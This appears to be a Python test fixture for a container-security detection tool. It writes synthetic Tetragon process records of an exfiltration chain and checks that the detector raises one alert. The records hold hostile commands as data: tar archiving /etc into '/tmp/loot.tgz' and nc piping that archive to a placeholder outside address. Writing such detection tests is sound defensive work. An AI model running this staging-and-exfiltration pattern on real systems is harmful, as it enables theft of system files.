"""Tetragon records (the shape of the real corpus: `docker` id, legacy process_connect) of an
archive staged and sent out of one container, and the alert detection makes of them."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

import orjson

from tidewaiter.cli.main import main

NODE = "respond-test-node"
DESTINATION = "203.0.113.9"  # TEST-NET-3: the outside, never reached (the records are written)


def chain(container_id: str, docker_field_length: int = 31) -> list[dict[str, Any]]:
    docker = container_id[:docker_field_length]

    def process(pid: int, binary: str, arguments: str, start: str, parent: int) -> dict[str, Any]:
        return {
            "exec_id": base64.b64encode(f"{NODE}:{pid}".encode()).decode(),
            "pid": pid,
            "uid": 0,
            "cwd": "/",
            "binary": binary,
            "arguments": arguments,
            "flags": "execve clone",
            "start_time": start,
            "auid": 4294967295,
            "docker": docker,
            "parent_exec_id": base64.b64encode(f"{NODE}:{parent}".encode()).decode(),
        }

    shell = process(100, "/bin/sh", '-c "tar -czf /tmp/loot.tgz /etc"', "2026-11-27T10:00:00Z", 1)
    tar = process(101, "/bin/tar", "-czf /tmp/loot.tgz /etc", "2026-11-27T10:00:00.100Z", 100)
    shell2 = process(
        110, "/bin/sh", f'-c "nc {DESTINATION} 443 < /tmp/loot.tgz"', "2026-11-27T10:01:00Z", 1
    )
    nc = process(111, "/bin/nc", f"{DESTINATION} 443", "2026-11-27T10:01:00.100Z", 110)
    return [
        {"process_exec": {"process": tar, "parent": shell}, "node_name": NODE,
         "time": "2026-11-27T10:00:00.100Z"},
        {"process_exec": {"process": nc, "parent": shell2}, "node_name": NODE,
         "time": "2026-11-27T10:01:00.100Z"},
        {"process_connect": {"process": nc, "parent": shell2, "source_ip": "10.213.7.2",
                             "source_port": 40000, "destination_ip": DESTINATION,
                             "destination_port": 443, "protocol": "TCP"},
         "node_name": NODE, "time": "2026-11-27T10:01:00.200Z"},
    ]  # fmt: skip


def write(path: Path, records: list[dict[str, Any]]) -> Path:
    path.write_bytes(b"".join(orjson.dumps(r) + b"\n" for r in records))
    return path


def detect_into(db: Path, telemetry: Path, capsys: Any) -> dict[str, Any]:
    """Run `tidewaiter detect --json --db` and return its one alert."""
    assert main(["detect", "--json", "--db", str(db), str(telemetry)]) == 0
    lines = [line for line in capsys.readouterr().out.splitlines() if line.strip()]
    assert len(lines) == 1, lines
    alert: dict[str, Any] = orjson.loads(lines[0])
    return alert
